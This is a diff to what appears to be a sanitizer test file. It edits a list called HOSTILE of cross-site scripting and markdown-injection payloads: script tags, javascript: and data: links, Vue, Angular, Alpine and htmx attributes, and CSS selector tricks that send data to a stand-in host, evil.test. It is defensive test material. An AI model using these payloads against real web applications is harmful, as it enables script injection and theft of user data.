@@ -106,7 +106,7 @@ HOSTILE = [
     "![x](https://evil.test/" + "y" * 3000 + "<b>{})", "![x](https://evil.test/<b>" + "y" * 3000 + "{})", "<a https://evil.test/>{}", '\\<a href="https://evil.test/">{}',
     "<https://evil.test/>{}", "<img src=https://evil.test/>{}", "```\nx\r```\r<script>f('{}')</script>", "$$\n```\n$$\n<script>f('{}')</script>",
     "---\n```\n---\n<script>f('{}')</script>", "[c](javascript:location='https://ok.test/{}'.replace('ok','evil'))", "[c](javascript:f('mailto:{}'))",
-    "javascript:f('mailto:{}')", "data:text/html,<img/src=https://ok.test/{}>", "[c](data:text/html,<img/src=https://ok.test/{}>)", "<div @click=\"f('{}')\">",
+    "javascript:f('mailto:{}')", "[c](data:text/html,<img/src=https://ok.test/{}>)", "<div @click=\"f('{}')\">",
     "<div v-on:click=\"f('{}')\">", "<div ng-init=\"f('{}')\">", "<div x-data=\"f('{}')\">", "<div hx-vals='{}' hx-get='https://evil.test/'>",
     "<style>p[data-n^='A']{{background:url(https://evil.test/A)}}</style><p data-n='{}'>", "<link href='//evil.test' rel=stylesheet><p title='{}'>",
 ]  # fmt: skip
